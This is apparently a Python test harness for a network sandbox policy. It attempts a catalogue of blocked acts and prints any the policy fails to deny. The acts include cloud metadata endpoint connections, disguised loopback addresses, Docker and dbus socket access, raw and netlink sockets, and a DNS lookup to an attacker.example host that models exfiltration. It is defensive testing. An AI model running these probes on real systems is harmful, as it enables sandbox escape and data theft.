"""Tries the acts of attack_policy_denied.rs from a Python program, each in every way that Python's modules have.

`sandsock policy attack` runs it. Without an argument it prints the names of the acts. With names it tries these acts, and prints a line
for each way that was not denied: the name, a tab, and the way.
"""

import errno
import fcntl
import ipaddress
import socket
import sys
from collections.abc import Callable, Iterator

# asm-generic/socket.h, linux/in.h, linux/tcp.h, linux/netlink.h and bits/ioctls.h.
SO_ATTACH_FILTER = 26
IP_TRANSPARENT = 19
TCP_REPAIR = 19
NETLINK_AUDIT = 9
NETLINK_KOBJECT_UEVENT = 15
SIOCGIFADDR = 0x8915
# ETH_P_ALL in network order.
ETH_P_ALL = 0x0300
# linux/rtnetlink.h: RTM_GETLINK, with a struct ifinfomsg.
GET_LINK = bytes([32, 0, 0, 0, 18, 0, 1, 0]) + bytes(12) + bytes([1, 0, 0, 0]) + bytes(8)

METADATA = [("169.254.169.254", 80), ("168.63.129.16", 80), ("fd00:ec2::254", 80)]
ROUNDABOUT = [
    ("0.0.0.0", 22),
    ("::", 22),
    ("::ffff:127.0.0.1", 22),
    ("::ffff:169.254.169.254", 80),
    ("64:ff9b::7f00:1", 22),
    ("2002:7f00:1::", 22),
]
NUMBERS = [("2130706433", 22), ("0x7f.1", 22), ("0177.0.0.1", 22)]
HOST_SERVICES = [("127.0.0.1", 22), ("127.0.0.1", 6379), ("::1", 5432)]
PRIVATE = [("10.0.0.1", 443), ("172.16.0.1", 443), ("192.168.0.1", 443), ("fd00::1", 443)]
INTERNET = [("8.8.8.8", 443), ("2001:4860:4860::8888", 443)]

# A way: what it is, and what does it. The latter may return an errno, as connect_ex does.
Way = tuple[str, Callable[[], object]]


def family(host: str) -> int:
    return socket.AF_INET6 if ":" in host else socket.AF_INET


def tcp(*places: tuple[str, int]) -> Iterator[Way]:
    for host, port in places:
        place = (host, port)

        def new(host: str = host) -> socket.socket:
            made = socket.socket(family(host), socket.SOCK_STREAM)
            made.settimeout(1)
            return made

        def without_waiting(new: Callable[[], socket.socket] = new) -> socket.socket:
            made = new()
            made.setblocking(False)
            return made

        def resolved(place: tuple[str, int] = place) -> None:
            for kind, _, _, _, address in socket.getaddrinfo(*place, type=socket.SOCK_STREAM):
                with socket.socket(kind, socket.SOCK_STREAM) as made:
                    made.settimeout(1)
                    made.connect(address)

        yield f"connect {host} {port}", lambda new=new, place=place: new().connect(place)
        yield f"connect_ex {host} {port}", lambda new=new, place=place: new().connect_ex(place)
        yield f"connect without waiting {host} {port}", lambda new=without_waiting, place=place: new().connect(place)
        yield f"connect_ex without waiting {host} {port}", lambda new=without_waiting, place=place: new().connect_ex(place)
        yield f"create_connection {host} {port}", lambda place=place: socket.create_connection(place, 1)
        yield f"getaddrinfo and connect {host} {port}", resolved
        yield f"sendto with MSG_FASTOPEN {host} {port}", lambda new=new, place=place: new().sendto(b"x", socket.MSG_FASTOPEN, place)
        yield (
            f"sendmsg with MSG_FASTOPEN {host} {port}",
            lambda new=new, place=place: new().sendmsg([b"x"], [], socket.MSG_FASTOPEN, place),
        )


def udp(*places: tuple[str, int]) -> Iterator[Way]:
    for host, port in places:
        place = (host, port)

        def new(host: str = host) -> socket.socket:
            return socket.socket(family(host), socket.SOCK_DGRAM)

        yield f"sendto {host} {port}", lambda new=new, place=place: new().sendto(b"x", place)
        yield f"empty sendto {host} {port}", lambda new=new, place=place: new().sendto(b"", place)
        yield f"sendmsg {host} {port}", lambda new=new, place=place: new().sendmsg([b"x"], [], 0, place)
        yield f"connect {host} {port}", lambda new=new, place=place: new().connect(place)
        yield f"connect_ex {host} {port}", lambda new=new, place=place: new().connect_ex(place)


def listen(*places: tuple[str, int]) -> Iterator[Way]:
    for place in places:

        def bound(place: tuple[str, int] = place) -> None:
            with socket.socket(family(place[0]), socket.SOCK_STREAM) as made:
                made.bind(place)
                made.listen()

        yield f"listen at {place[0]} {place[1]}", bound
        yield (
            f"create_server {place[0]} {place[1]}",
            lambda place=place: socket.create_server(place, family=family(place[0])).close(),
        )
    if any(ipaddress.ip_address(host).is_unspecified for host, _ in places):
        yield "listen without bind", lambda: socket.socket().listen()


def bind(*places: tuple[str, int]) -> Iterator[Way]:
    for place in places:
        made = lambda place=place: socket.socket(family(place[0]), socket.SOCK_DGRAM).bind(place)
        yield f"bind {place[0]} {place[1]}", made


def name(host: str) -> Iterator[Way]:
    yield f"getaddrinfo {host}", lambda: socket.getaddrinfo(host, 80)
    yield f"gethostbyname {host}", lambda: socket.gethostbyname(host)
    yield f"gethostbyname_ex {host}", lambda: socket.gethostbyname_ex(host)
    yield f"create_connection {host}", lambda: socket.create_connection((host, 80), 1)
    yield f"getfqdn {host}", lambda: socket.gethostbyaddr(host)


def reverse(address: str) -> Iterator[Way]:
    yield f"gethostbyaddr {address}", lambda: socket.gethostbyaddr(address)
    yield f"getnameinfo {address}", lambda: socket.getnameinfo((address, 80), socket.NI_NAMEREQD)


def unix(*paths: str) -> Iterator[Way]:
    for path in paths:
        place = path.replace("@", "\0", 1)
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET):
            made = lambda kind=kind: socket.socket(socket.AF_UNIX, kind)
            yield f"connect {path}", lambda made=made, place=place: made().connect(place)
            yield f"connect_ex {path}", lambda made=made, place=place: made().connect_ex(place)


def sockets(*kinds: tuple[int, int, int]) -> Iterator[Way]:
    for kind in kinds:
        yield f"socket {kind[0]} {kind[1]} {kind[2]}", lambda kind=kind: socket.socket(*kind)


def options(kind: int, *settings: tuple[int, int, int | bytes]) -> Iterator[Way]:
    for level, option, value in settings:
        arguments = (level, option, value)
        made = lambda arguments=arguments: socket.socket(socket.AF_INET, kind).setsockopt(*arguments)
        yield f"setsockopt {level} {option}", made


def raw() -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as made:
        made.sendto(bytes([8] * 8), ("127.0.0.1", 0))


def packets() -> None:
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0) as made:
        made.bind(("lo", 0x0806))


def routes() -> None:
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, socket.NETLINK_ROUTE) as made:
        made.send(GET_LINK)


def abstract() -> None:
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as made:
        made.bind("\0sandsock-attack")


def member() -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as made:
        made.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, socket.inet_aton("224.0.0.251") + socket.inet_aton("127.0.0.1"))


def rights() -> None:
    one, other = socket.socketpair()
    with one, other:
        socket.send_fds(one, [b"x"], [one.fileno()])


def interface_address() -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as made:
        fcntl.ioctl(made, SIOCGIFADDR, b"lo".ljust(40, b"\0"))


ACTS: dict[str, Callable[[], Iterator[Way] | list[Way]]] = {
    "tcp-internet": lambda: tcp(*INTERNET),
    "tcp-mail": lambda: tcp(("8.8.8.8", 25)),
    "tcp-this-host": lambda: tcp(*HOST_SERVICES),
    "tcp-private": lambda: tcp(*PRIVATE),
    "tcp-metadata": lambda: tcp(*METADATA),
    "tcp-roundabout": lambda: tcp(*ROUNDABOUT, *NUMBERS),
    "udp-internet": lambda: udp(*INTERNET),
    "udp-resolver": lambda: udp(("8.8.8.8", 53), ("127.0.0.53", 53)),
    "udp-private": lambda: udp(*PRIVATE),
    "udp-metadata": lambda: udp(*METADATA),
    "udp-roundabout": lambda: udp(*ROUNDABOUT, *NUMBERS),
    "udp-many": lambda: udp(("255.255.255.255", 67), ("224.0.0.251", 5353), ("ff02::fb", 5353)),
    "listen-everywhere": lambda: listen(("0.0.0.0", 8000), ("::", 8000)),
    "listen-here": lambda: listen(("127.0.0.1", 8000), ("::1", 8000), ("127.0.0.1", 0)),
    "bind-everywhere": lambda: bind(("0.0.0.0", 5353), ("::", 5353)),
    "bind-here": lambda: bind(("127.0.0.1", 8000), ("::1", 8000), ("127.0.0.1", 0)),
    "names-any": lambda: name("secret-of-the-guest.attacker.example"),
    "names-reverse": lambda: reverse("10.0.0.1"),
    "unix-system": lambda: unix(
        "/run/docker.sock",
        "/var/run/docker.sock",
        "/proc/self/root/run/docker.sock",
        "/run/containerd/containerd.sock",
        "/run/dbus/system_bus_socket",
        "/run/systemd/private",
    ),
    "unix-desktop": lambda: unix("/tmp/.X11-unix/X0", "@/tmp/.X11-unix/X0", "/run/user/1000/bus"),
    "unix-names": lambda: [("bind @sandsock-attack", abstract)],
    "raw-ip": lambda: [("sendto of a raw socket", raw)],
    "packets": lambda: [("bind of a packet socket", packets)],
    "packets-all": lambda: sockets(
        (socket.AF_PACKET, socket.SOCK_RAW, ETH_P_ALL), (socket.AF_PACKET, socket.SOCK_DGRAM, ETH_P_ALL)
    ),
    "netlink-route": lambda: [("send to NETLINK_ROUTE", routes)],
    "netlink-events": lambda: sockets(
        (socket.AF_NETLINK, socket.SOCK_RAW, NETLINK_AUDIT), (socket.AF_NETLINK, socket.SOCK_RAW, NETLINK_KOBJECT_UEVENT)
    ),
    "can-bus": lambda: sockets((socket.AF_CAN, socket.SOCK_RAW, socket.CAN_RAW), (socket.AF_CAN, socket.SOCK_DGRAM, socket.CAN_BCM)),
    "crypto": lambda: sockets((socket.AF_ALG, socket.SOCK_SEQPACKET, 0)),
    "vsock": lambda: sockets((socket.AF_VSOCK, socket.SOCK_STREAM, 0)),
    "bluetooth": lambda: sockets(
        (socket.AF_BLUETOOTH, socket.SOCK_RAW, socket.BTPROTO_HCI),
        (socket.AF_BLUETOOTH, socket.SOCK_SEQPACKET, socket.BTPROTO_L2CAP),
        (socket.AF_BLUETOOTH, socket.SOCK_STREAM, socket.BTPROTO_RFCOMM),
    ),
    "cluster": lambda: sockets(
        (socket.AF_TIPC, socket.SOCK_RDM, 0), (socket.AF_RDS, socket.SOCK_SEQPACKET, 0), (socket.AF_QIPCRTR, socket.SOCK_DGRAM, 0)
    ),
    "options-route": lambda: options(
        socket.SOCK_STREAM,
        (socket.SOL_SOCKET, socket.SO_MARK, 1),
        (socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"lo\0"),
        (socket.IPPROTO_IP, IP_TRANSPARENT, 1),
        (socket.IPPROTO_TCP, TCP_REPAIR, 1),
    ),
    "options-program": lambda: options(socket.SOCK_DGRAM, (socket.SOL_SOCKET, SO_ATTACH_FILTER, bytes(16))),
    "siblings": lambda: sockets(
        (socket.AF_INET, socket.SOCK_STREAM, socket.IPPROTO_MPTCP),
        (socket.AF_INET, socket.SOCK_STREAM, socket.IPPROTO_SCTP),
        (socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_UDPLITE),
        (socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP),
    ),
    "multicast": lambda: [("setsockopt IP_ADD_MEMBERSHIP", member)],
    "descriptors": lambda: [("send_fds", rights)],
    "interfaces": lambda: [("if_nameindex", socket.if_nameindex), ("if_nametoindex lo", lambda: socket.if_nametoindex("lo"))],
    "interface-addresses": lambda: [("ioctl SIOCGIFADDR", interface_address)],
    "host-name": lambda: [("sethostname", lambda: socket.sethostname(socket.gethostname()))],
}


def is_denied(act: Callable[[], object]) -> bool:
    """Does the act, and returns whether the policy denied it. The kernel's EACCES has no reason behind its text."""
    try:
        return act() == errno.EACCES
    except PermissionError as error:
        return error.errno == errno.EACCES and error.strerror.startswith("Permission denied: ")
    except OSError:
        return False


for act in sys.argv[1:]:
    for way, done in ACTS[act]():
        if not is_denied(done):
            print(f"{act}\t{way}")
if len(sys.argv) == 1:
    print("\n".join(ACTS))
